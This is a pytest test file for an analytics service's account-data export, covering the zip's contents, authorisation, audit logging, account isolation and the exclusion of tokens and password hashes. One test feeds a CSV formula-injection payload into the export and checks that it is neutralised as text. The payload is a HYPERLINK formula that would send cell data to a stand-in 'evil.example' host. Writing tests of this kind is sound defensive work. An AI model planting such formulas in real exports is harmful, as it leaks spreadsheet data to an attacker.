"""Exporting everything we hold about an account (`POST /ot/v1/account/export`,
`ot-admin accounts export`): account.json plus one CSV of raw hits per site, in a zip."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient

from ot.clock import utcnow
from ot.config import Settings
from ot.models import Site
from ot.privacy import IpPolicy
from ot.rights import export
from tests import support
from tests.rights_support import ALICE, BOB, admin, audit_actions, visit
from tests.stats_support import goal, token_for
from tests.support import bearer, error_of, event, logged_in


def _unzip(data: bytes) -> tuple[dict[str, Any], dict[str, list[dict[str, str]]]]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    document = json.loads(archive.read("account.json"))
    hits = {
        name: list(csv.DictReader(io.StringIO(archive.read(name).decode())))
        for name in archive.namelist()
        if name.startswith("hits/")
    }
    return document, hits


@pytest.fixture
async def full_ip_site(settings: Settings) -> Site:
    """A site that keeps visitors' full IPs, so the export has one to decrypt."""
    return await support.make_site(settings, ip_policy=IpPolicy.FULL)


async def test_customers_can_export_everything_we_hold_about_their_account(
    client: TestClient, settings: Settings, full_ip_site: Site
) -> None:
    now = utcnow().replace(microsecond=0)
    await visit(client, settings, full_ip_site, ALICE, now - timedelta(hours=2))
    await visit(client, settings, full_ip_site, BOB, now - timedelta(hours=1))
    await goal(settings, full_ip_site, event="Signup")
    started = await logged_in(settings, full_ip_site.account_id)

    response = await client.post("/ot/v1/account/export", headers=bearer(started.token))

    assert response.status == 200, await response.text()
    assert response.content_type == "application/zip"
    assert "attachment" in response.headers["Content-Disposition"]
    document, hits = _unzip(await response.read())
    assert document["format"] == export.FORMAT
    assert document["account"]["name"] == "Test Shop B.V."
    assert "name_encrypted" not in document["account"]
    [site] = document["sites"]
    assert site["domain"] == "shop.example" and site["ip_policy"] == "full"
    assert [g["display_name"] for g in site["goals"]] == ["Signup"]
    assert document["api_keys"] and document["sessions"]
    assert document["deletion"] is None
    rows = hits[site["hits_file"]]
    assert sorted(row["ip"] for row in rows) == [ALICE.ip, BOB.ip]
    assert {row["pathname"] for row in rows} == {"/"}


async def test_export_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
    client: TestClient, settings: Settings, site: Site
) -> None:
    """Event names and campaign tags come from visitors' browsers; opened in a spreadsheet, a
    cell like `=HYPERLINK(...)` would run."""
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    await support.store_hits(
        client,
        [event(name=formula, url="https://shop.example/?utm_campaign=-2%2B3&utm_source=@evil")],
    )
    started = await logged_in(settings, site.account_id)

    response = await client.post("/ot/v1/account/export", headers=bearer(started.token))

    _, hits = _unzip(await response.read())
    [row] = hits[f"hits/site-{site.id}.csv"]
    assert row["name"] == "'" + formula
    assert row["utm_campaign"] == "'-2+3" and row["utm_source"] == "'@evil"
    assert row["site_id"] == str(site.id) and row["pathname"] == "/"


async def test_an_export_never_holds_a_token_or_password_hash(
    client: TestClient, settings: Settings, site: Site
) -> None:
    started = await logged_in(settings, site.account_id)
    key = await token_for(settings, site.account_id)

    response = await client.post("/ot/v1/account/export", headers=bearer(started.token))

    data = await response.read()
    document, _ = _unzip(data)
    text = json.dumps(document)
    assert "hash" not in text
    assert key not in text and started.token not in text
    assert document["api_keys"][0]["prefix"] == key[:10]


async def test_an_export_reads_hits_in_batches(
    client: TestClient, settings: Settings, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "HIT_BATCH", 2)
    now = utcnow()
    await visit(client, settings, site, ALICE, *[now - timedelta(minutes=m) for m in range(5)])
    started = await logged_in(settings, site.account_id)

    response = await client.post("/ot/v1/account/export", headers=bearer(started.token))

    _, hits = _unzip(await response.read())
    assert len(hits[f"hits/site-{site.id}.csv"]) == 5


async def test_an_export_is_audited_with_counts_only(
    client: TestClient, settings: Settings, site: Site
) -> None:
    await visit(client, settings, site, ALICE, utcnow() - timedelta(minutes=5))
    started = await logged_in(settings, site.account_id)

    await client.post("/ot/v1/account/export", headers=bearer(started.token))

    [entry] = [e for e in await audit_actions(settings) if e["action"] == "account.exported"]
    details = (
        entry["details"] if isinstance(entry["details"], dict) else json.loads(entry["details"])
    )
    assert details == {"sites": 1, "hits": 1}
    assert entry["account_id"] == site.account_id


async def test_an_api_key_cannot_export_the_account(
    client: TestClient, settings: Settings, site: Site
) -> None:
    key = await token_for(settings, site.account_id)

    response = await client.post("/ot/v1/account/export", headers=bearer(key))

    error = await error_of(response, 403)
    assert error["field"] == "token"


async def test_an_export_without_credentials_is_refused(client: TestClient) -> None:
    await error_of(await client.post("/ot/v1/account/export"), 401)


async def test_another_accounts_data_is_never_in_an_export(
    client: TestClient, settings: Settings, site: Site
) -> None:
    other = await support.make_site(settings, "other.example")
    started = await logged_in(settings, other.account_id)

    response = await client.post("/ot/v1/account/export", headers=bearer(started.token))

    document, _ = _unzip(await response.read())
    assert [s["domain"] for s in document["sites"]] == ["other.example"]
    assert {e["account_id"] for e in document["audit_entries"]} <= {other.account_id}


async def test_an_operator_exports_an_account_to_a_file(
    client: TestClient, settings: Settings, site: Site, tmp_path: Path
) -> None:
    await visit(client, settings, site, ALICE, utcnow() - timedelta(minutes=5))
    out = tmp_path / "export.zip"

    result = await admin(settings, f"accounts export {site.account_id} --out {out}")

    assert result.exit_code == 0, result.output
    assert "exported 1 site and 1 hit" in result.stdout
    document, hits = _unzip(out.read_bytes())
    assert document["account"]["name"] == "Test Shop B.V."
    assert len(hits[f"hits/site-{site.id}.csv"]) == 1
    actors = [
        e["actor"] for e in await audit_actions(settings) if e["action"] == "account.exported"
    ]
    assert actors and actors[0].startswith("operator:")


async def test_an_operator_export_of_an_unknown_account_fails_and_leaves_no_file(
    settings: Settings, tmp_path: Path
) -> None:
    out = tmp_path / "export.zip"

    result = await admin(settings, f"accounts export 987654 --out {out}")

    assert result.exit_code == 2
    assert "account 987654 does not exist" in result.stderr
    assert not out.exists()
